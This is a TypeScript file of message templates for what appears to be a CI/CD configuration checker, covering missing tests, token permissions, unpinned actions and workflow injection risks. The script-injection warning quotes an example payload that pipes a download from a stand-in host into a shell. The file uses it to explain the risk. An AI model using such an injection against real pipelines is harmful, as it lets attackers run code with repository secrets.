// Message templates of the ci-cd perspective. Every placeholder is filled from what was found.
import type { MessageTemplate } from '../types.js'

export type CiMessageId =
  | 'noCi'
  | 'invalidWorkflow'
  | 'testCommandNotRun'
  | 'testsNotTriggered'
  | 'missingScript'
  | 'missingFile'
  | 'otherCiNoTests'
  | 'runtimeMinimumUntested'
  | 'runtimeBelowSupported'
  | 'runtimeNewestEnded'
  | 'noDependencyCache'
  | 'noTimeout'
  | 'noConcurrency'
  | 'noPermissions'
  | 'writeAllPermissions'
  | 'unpinnedAction'
  | 'noCoverage'
  | 'coverageNotKept'
  | 'lintNotRun'
  | 'typeCheckNotRun'
  | 'scriptInjection'
  | 'pullRequestTargetCheckout'

export const MESSAGES: Record<CiMessageId, MessageTemplate> = {
  noCi: {
    title: 'No CI configuration for {{sourceFiles}}',
    message:
      'The repository has {{sourceFiles}} and {{tests}}, but no CI file, so nothing runs {{command}} on push or on pull requests.'
  },
  invalidWorkflow: {
    title: '{{file}} is not valid YAML',
    message: 'GitHub cannot run {{file}}: {{error}} (line {{line}}).'
  },
  testCommandNotRun: {
    title: 'No CI step runs {{command}}',
    message: '{{reason}}; none of the {{workflows}} runs {{command}} or the test runner it calls.'
  },
  testsNotTriggered: {
    title: 'Tests in {{file}} do not run on {{missing}}',
    message:
      '{{file}} runs the tests ({{command}}) but is triggered only by {{triggers}}, so {{consequence}}.'
  },
  missingScript: {
    title: '{{file}} runs the missing script "{{script}}"',
    message:
      'Job {{job}} runs `{{command}}`, but {{manifest}} has no "{{script}}" script ({{available}}), so the step fails.'
  },
  missingFile: {
    title: '{{file}} runs a command on {{path}}, which is not in the repository',
    message:
      'Job {{job}} runs `{{command}}`, but {{path}} does not exist at this commit ({{folder}}/ has no such file) and no earlier step of the job makes it, so the step fails or checks nothing.'
  },
  otherCiNoTests: {
    title: '{{system}} config {{file}} runs no tests',
    message:
      '{{file}} ({{system}}) was found, but none of its commands runs {{command}} or another test runner.'
  },
  runtimeMinimumUntested: {
    title: '{{runtime}} {{minimum}} is supported but not tested in {{file}}',
    message:
      '{{manifest}} declares {{field}} "{{declared}}" (minimum {{minimum}}), but the test jobs ({{jobs}}) set up only {{tested}}: the oldest supported version is never tested.'
  },
  runtimeBelowSupported: {
    title: 'Job {{job}} tests {{runtime}} {{version}}, below the supported {{minimum}}',
    message:
      'Job {{job}} in {{file}} tests {{runtime}} {{version}}, but {{manifest}} declares {{field}} "{{declared}}": either the range is wrong or CI tests a version users cannot install on.'
  },
  runtimeNewestEnded: {
    title:
      '{{runtime}} {{newest}}, the newest version CI tests, reached its end of life on {{ended}}',
    message:
      'The test jobs ({{jobs}}) in {{file}} set up only {{tested}}. {{runtime}} {{newest}} has had no fixes since {{ended}}, and {{allows}}, so the versions users run today ({{runtime}} {{maintained}} and newer) are never tested.'
  },
  noDependencyCache: {
    title: '{{jobs}} install{{s}} dependencies without a cache',
    message:
      '{{jobs}} in {{file}} run{{s}} `{{command}}` on every run with no dependency cache ({{lookedFor}}).'
  },
  noTimeout: {
    title: '{{jobs}} {{verb}} no timeout-minutes',
    message:
      "{{jobs}} in {{file}} set{{s}} no `timeout-minutes`, so a hung {{what}} holds a runner for GitHub's default of 360 minutes."
  },
  noConcurrency: {
    title: '{{file}} has no concurrency group',
    message:
      '{{file}} runs on {{triggers}} without `concurrency`, so every push starts another run while older runs of the same branch keep going.'
  },
  noPermissions: {
    title: '{{file}} does not limit the token permissions',
    message:
      '{{file}} sets no top-level `permissions` and {{jobs}} set none either, so GITHUB_TOKEN gets the repository default, which can be read/write for every scope.'
  },
  writeAllPermissions: {
    title: '{{where}} in {{file}} grants write-all',
    message:
      '`permissions: write-all` in {{where}} gives GITHUB_TOKEN write access to every scope, far more than {{what}} needs.'
  },
  unpinnedAction: {
    title: '{{action}} is pinned to "{{ref}}", not a commit SHA',
    message:
      '{{where}} uses {{action}}@{{ref}}; a {{kind}} can be moved to other code by whoever controls {{owner}}. {{advice}}'
  },
  noCoverage: {
    title: 'Tests in job {{job}} produce no coverage',
    message:
      'Job {{job}} in {{file}} runs `{{command}}` without a coverage flag or tool ({{lookedFor}}), so nobody sees which code the tests miss.'
  },
  coverageNotKept: {
    title: 'Coverage from job {{job}} is not kept',
    message:
      'Job {{job}} in {{file}} produces coverage (`{{command}}`) but no step of {{file}} uploads it ({{lookedFor}}), so the report is lost with the runner.'
  },
  lintNotRun: {
    title: 'CI never runs the linter ({{command}})',
    message:
      'The repository configures {{tool}} ({{evidence}}), but none of the {{workflows}} runs {{command}}.'
  },
  typeCheckNotRun: {
    title: 'CI never type-checks ({{command}})',
    message:
      'The repository configures {{tool}} ({{evidence}}), but none of the {{workflows}} runs {{command}} or another type check.'
  },
  scriptInjection: {
    title: '{{expression}} is expanded inside a script in {{file}}',
    message:
      'Step {{step}} of job {{job}} puts the expression `{{expression}}` straight into a {{language}}; {{who}} controls that text, so a value like `"; curl evil | sh #` runs as code{{privilege}}. Pass it through `env:` and read the variable instead.'
  },
  pullRequestTargetCheckout: {
    title: 'pull_request_target checks out the pull request head in {{file}}',
    message:
      "{{file}} runs on pull_request_target (with the base repository's secrets and a write token) and job {{job}} checks out `{{ref}}`, so code from any fork runs with those privileges."
  }
}
